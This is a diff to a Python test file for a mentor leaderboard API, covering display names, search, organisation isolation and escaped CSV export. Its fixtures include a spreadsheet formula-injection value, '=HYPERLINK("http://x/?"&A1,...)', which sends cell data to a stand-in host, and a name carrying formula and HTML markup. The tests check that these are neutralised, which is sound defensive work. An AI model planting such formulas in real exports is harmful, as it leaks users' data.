@@ -15,8 +15,9 @@ import pytest_asyncio
 from edges.web import export
 from edges.web.organisation import CHANNELS_MAX, Place, write_cursor
 from models.badges import SEEDED_DEFINITIONS
+from models.spreadsheets import as_text
 from process.settings import Settings
-from tests.mentor_rows import COUNTED_AT, execute, put_award, put_counts, put_mentor, put_milestone
+from tests.mentor_rows import COUNTED_AT, execute, put_award, put_counts, put_mentor, put_milestone, put_name
 from tests.milestones import MENTOR, ORG, OTHER_ORG, new_id
 from tests.web import Web, bearer, running_web
 
@@ -108,8 +109,40 @@ async def test_leaderboard_page_by_page(web: Web, settings: Settings) -> None:
         "pendingAttributions": 0,
         "confirmedAttributions": 9,
         "conversionRate": 0.9,
+        "displayName": None,
+        "group": None,
     }
     assert (await ask(web, "leaderboard"))["next"] is None
+
+
+async def test_names_are_shown_and_found(web: Web, settings: Settings) -> None:
+    """On every page of the leaderboard, in activity, export and finder; another organisation's never, however asked."""
+    names = ("Åse-Marie Bjørk", "=1+1 <b>Ø'Brien</b>", "אנה", "Anna Maria Berg")
+    for number, (mentor_id, name) in enumerate(zip(ids(4), names, strict=True)):
+        put_mentor(settings, mentor_id=mentor_id, code=f"ABCDEFGH{number}0")
+        put_counts(settings, 9, 0, 9 - number, mentor_id=mentor_id)
+        put_name(settings, name, group="Nord", mentor_id=mentor_id)
+    put_mentor(settings, org_id=OTHER_ORG)
+    put_name(settings, "Åse Outside", org_id=OTHER_ORG)
+    put_award(settings, 1, mentor_id=ids(1)[0])
+    page = await ask(web, "leaderboard", limit=2)
+    rest = await ask(web, "leaderboard", limit=2, after=page["next"])
+    assert [entry["displayName"] for entry in page["entries"] + rest["entries"]] == list(names)
+    assert rest["entries"][0]["group"] == "Nord"
+    assert (await ask(web, "activity"))["names"] == {ids(1)[0]: names[0]}
+    assert (await ask(web, f"mentors/{ids(1)[0]}"))["displayName"] == names[0]
+    rows = list(csv.DictReader(io.StringIO((await web.get(f"/v1/orgs/{ORG}/export.csv")).text)))
+    assert [(row["display_name"], row["group"]) for row in rows][1:3] == [("'" + names[1], "Nord"), (names[2], "Nord")]
+    wanted = {
+        "ase": 0, "BJÖRK": 0, "marie b": 0, "Bjørk, Åse": 0, "obrien": 1, "ø'brien": 1, "אנ": 2, "ann": 3,
+        "anna berg": 3, "Berg Anna": 3, "maria": 3, "abcdefgh30": 3,
+    }  # fmt: skip
+    for text, number in wanted.items():
+        found = (await ask(web, "mentors", find=text))["mentors"]
+        assert [each["displayName"] for each in found] == [names[number]], text
+    for text in ("outside", "se", "anna x", "%", "bx"):
+        assert (await web.get(f"/v1/orgs/{ORG}/mentors", params={"find": text})).json().get("mentors") in ([], None)
+    assert [each["displayName"] for each in (await ask(web, "mentors", find="a", limit=1))["mentors"]] == [names[3]]
 
 
 async def test_leaderboard_goes_on_where_it_was(web: Web, settings: Settings) -> None:
@@ -298,7 +331,7 @@ async def test_export(web: Web, settings: Settings, monkeypatch: pytest.MonkeyPa
     assert re.fullmatch(r'attachment; filename="referrals-\d{4}-\d\d-\d\d\.csv"', answer.headers["content-disposition"])
     assert answer.headers["cache-control"] == "no-store"
     assert answer.text.count("\r\n") == 8
-    assert rows[0] == [mentors[0], "ABCDEFGH00", "0", "0", "0", "0.0", "", "", ""]
+    assert rows[0] == [mentors[0], "ABCDEFGH00", "0", "0", "0", "0.0", *[""] * 5]
     assert dict(zip(header, rows[3], strict=True)) == {
         "mentor_id": mentors[3],
         "referral_code": "ABCDEFGH30",
@@ -309,6 +342,8 @@ async def test_export(web: Web, settings: Settings, monkeypatch: pytest.MonkeyPa
         "milestones": "1 5",
         "badges": f'{SEEDED_DEFINITIONS[0].name} | \'=HYPERLINK("http://x/?"&A1,"look")',
         "last_event_at": "2026-11-20T12:30:00Z",
+        "display_name": "",
+        "group": "",
     }
     execute(settings, "DELETE FROM badge_awards WHERE confirmed_count = 1")
     header, *rows = csv.reader(io.StringIO((await web.get(f"/v1/orgs/{ORG}/export.csv")).text))
@@ -318,9 +353,9 @@ async def test_export(web: Web, settings: Settings, monkeypatch: pytest.MonkeyPa
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])  # noqa: RUF001  the wide ones too
 def test_no_cell_begins_like_a_formula(start: str) -> None:
     """Whatever a spreadsheet takes for a formula begins with an apostrophe; other text is left alone."""
-    assert export.as_text(f"{start}1") == f"'{start}1"
-    assert export.as_text(f"1{start}") == f"1{start}"
-    assert export.as_text("") == ""
+    assert as_text(f"{start}1") == f"'{start}1"
+    assert as_text(f"1{start}") == f"1{start}"
+    assert as_text("") == ""
 
 
 async def test_an_export_of_nobody(web: Web) -> None:
